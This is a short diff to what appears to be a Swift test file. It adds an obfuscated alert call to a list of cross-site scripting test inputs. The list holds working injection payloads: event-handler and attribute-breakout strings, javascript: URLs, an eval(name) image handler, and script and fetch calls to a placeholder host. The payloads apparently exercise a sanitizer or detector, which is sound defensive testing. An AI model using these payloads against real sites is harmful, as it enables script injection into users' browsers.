@@ -30,7 +30,8 @@ import Testing
     ].map { Case(.sql, $0) }
 
     static let script: [Case] = [
-        "<esi:include src=//h.example/>", "<script src=//h.example/a.js>", "<svg/onload=confirm(3)>", "\" onfocus=alert(4) autofocus x=\"",
+        "<esi:include src=//h.example/>", "top[/al/.source+/ert/.source](1)", "<script src=//h.example/a.js>",
+        "<svg/onload=confirm(3)>", "\" onfocus=alert(4) autofocus x=\"",
         "';prompt(8)//",
         "<img src=y onerror=eval(name)>", "java\tscript:alert(6)", "javascript:fetch('//h.example')",
         "<iframe srcdoc='<b>'>",
